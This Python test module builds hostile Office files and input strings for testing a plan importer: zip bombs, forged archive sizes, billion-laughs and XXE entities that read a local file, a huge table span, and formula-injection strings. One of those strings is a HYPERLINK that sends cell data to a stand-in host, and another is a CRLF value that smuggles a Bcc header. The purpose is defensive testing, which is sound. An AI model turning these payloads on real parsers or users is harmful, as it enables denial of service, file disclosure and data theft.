"""The bad files and bad text of the probe of issue 18, made at test time from a small valid
plan (nothing large is committed): zip bombs (.docx and .xlsx), far dimensions, XXE, control
characters, formula text, line breaks in one-line fields. Each maker says what the probe sent.
"""

import io
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from theodoi.imports.examples import excel, word

MB = 1024 * 1024
ROWS = [
    ["STT", "Nội dung công việc", "Đơn vị chủ trì", "Thời gian thực hiện"],
    ["1", "Rà soát quy trình thu", "VP", "Năm 2024"],
]
WORD_PARTS = "word/document.xml"
SHEET = "xl/worksheets/sheet2.xml"  # the plan's sheet («Phụ lục»; sheet1 is «Ghi chú»)

# Text people type or paste that the probe saw break things
# Word's line break, a bell, an escape: what a row saved before text was cleaned may hold
CONTROL_TEXT = "Dòng một\x0bDòng hai\x07 hết\x1b."
CONTROL_CLEANED = "Dòng một\nDòng hai hết."
TYPED_CONTROL_TEXT = "Dòng một\x0bDòng hai\x07\x00 hết\x1b."  # a form may also get a NUL
FORMULA_TEXTS = [
    '=HYPERLINK("http://vidu.test/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "\t=1+1",
    "+1",
    "-1",
    "@SUM(1+1)",
]
CRLF_CODE = "1.1\r\nBcc: ai@vidu.test"


def plan_word() -> bytes:
    return word(ROWS)


def plan_excel() -> bytes:
    return excel(ROWS)


def rezip(data: bytes, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """`data` (a zip) with the named parts changed."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename in changes:
                content = changes[info.filename](content)
            target.writestr(info.filename, content)
    return out.getvalue()


def _inflating(data: bytes, part: str, size: int, head: bytes, tail: bytes) -> bytes:
    """`data` whose `part` really inflates to about `size` bytes: `head`, spaces, `tail`
    (streamed into the archive, so the test never holds the inflated text)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info.filename, source.read(info.filename))
                continue
            with target.open(part, "w", force_zip64=True) as stream:
                stream.write(head)
                block = b" " * MB
                for _ in range(size // MB):
                    stream.write(block)
                stream.write(tail)
    return out.getvalue()


def word_bomb(size: int = 48 * MB) -> bytes:
    """A .docx whose document.xml inflates to `size` (the probe's: 4 MB to 4 GB)."""
    xml = plan_word_xml()
    cut = xml.index(b"<w:body>") + len(b"<w:body>")
    return _inflating(plan_word(), WORD_PARTS, size, xml[:cut], xml[cut:])


def plan_word_xml() -> bytes:
    return zipfile.ZipFile(io.BytesIO(plan_word())).read(WORD_PARTS)


def excel_bomb(size: int = 48 * MB) -> bytes:
    """A .xlsx whose sheet inflates to `size`."""
    xml = zipfile.ZipFile(io.BytesIO(plan_excel())).read(SHEET)
    cut = xml.index(b"<sheetData>") + len(b"<sheetData>")
    return _inflating(plan_excel(), SHEET, size, xml[:cut], xml[cut:])


def ratio_bomb() -> bytes:
    """Under the size limits, but inflating 1,000 times: no Word file does."""
    return word_bomb(8 * MB)


def declared(data: bytes, part: str, size: int) -> bytes:
    """`data` whose directory says `part` inflates to `size` bytes (what a crafted archive
    claims; the reader inflates no more than it says)."""
    out = bytearray(data)
    name = part.encode()
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        for found in re.finditer(re.escape(signature), bytes(out)):
            start = found.start()
            name_at = start + (46 if signature == b"PK\x01\x02" else 30)
            if bytes(out[name_at : name_at + len(name)]) == name:
                struct.pack_into("<I", out, start + offset, size)
    return bytes(out)


def many_parts(count: int = 1_500) -> bytes:
    """A .docx with `count` more (tiny) parts."""
    source = zipfile.ZipFile(io.BytesIO(plan_word()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        for number in range(count):
            target.writestr(f"customXml/item{number + 100}.xml", b"<a/>")
    return out.getvalue()


def many_declared(count: int = 70) -> bytes:
    """70 more parts of 1 MB each (too small for their ratio to be judged): 70.8 MB in all."""
    data = many_parts(count)
    for number in range(count):
        data = declared(data, f"customXml/item{number + 100}.xml", MB)
    return data


def other_compression() -> bytes:
    """A .docx whose parts use bzip2 (zip allows it, Office never writes it)."""
    source = zipfile.ZipFile(io.BytesIO(plan_word()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
    return out.getvalue()


def far_dimension(ref: str = "A1:XFD1048576") -> bytes:
    """The probe's 10 KB .xlsx: its sheet declares `ref` as its used range."""
    return rezip(
        plan_excel(),
        {
            SHEET: lambda xml: re.sub(
                rb'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>'.encode(), xml
            )
        },
    )


def far_cell() -> bytes:
    """A sheet declaring the small range it really uses, then one cell at XFD1048576."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return rezip(
        plan_excel(), {SHEET: lambda xml: xml.replace(b"</sheetData>", far + b"</sheetData>")}
    )


def no_dimension() -> bytes:
    """A sheet without a dimension (some programs write none): read as it is."""
    return rezip(plan_excel(), {SHEET: lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)})


def wide_word_cell(span: int = 1_000_000_000) -> bytes:
    """A Word table cell spanning `span` grid columns (a tiny file, a huge row)."""

    def spread(xml: bytes) -> bytes:
        return xml.replace(b"<w:tcPr>", f'<w:tcPr><w:gridSpan w:val="{span}"/>'.encode(), 1)

    return rezip(plan_word(), {WORD_PARTS: spread})


def _doctype(xml: bytes, doctype: str, find: bytes, entity: bytes) -> bytes:
    text = xml
    declaration = b""
    if text.startswith(b"<?xml"):
        end = text.index(b"?>") + 2
        declaration, text = text[:end], text[end:].lstrip()
    return declaration + doctype.encode() + text.replace(find, entity, 1)


def xxe_word(secret: Path) -> bytes:
    """A .docx whose task cell is an external entity naming a local file."""
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    return rezip(
        plan_word(),
        {WORD_PARTS: lambda xml: _doctype(xml, doctype, "Rà soát".encode(), b"&xxe;")},
    )


def xxe_excel(secret: Path) -> bytes:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    return rezip(
        plan_excel(), {SHEET: lambda xml: _doctype(xml, doctype, b"R&#224; so&#225;t", b"&xxe;")}
    )


def laughs_excel() -> bytes:
    """Billion laughs: entities of entities, 10^9 "lol" from a few hundred bytes."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    doctype = f"<!DOCTYPE worksheet [{entities}]>"
    return rezip(
        plan_excel(), {SHEET: lambda xml: _doctype(xml, doctype, b"R&#224; so&#225;t", b"&lol9;")}
    )


def control_excel() -> bytes:
    """A task cell with Word's line break as Excel stores it (_x000B_) and a bell (_x0007_)."""
    return rezip(
        plan_excel(),
        {
            SHEET: lambda xml: xml.replace(
                b"R&#224; so&#225;t", b"R&#224; so&#225;t_x000B_quy tr&#236;nh_x0007_", 1
            )
        },
    )
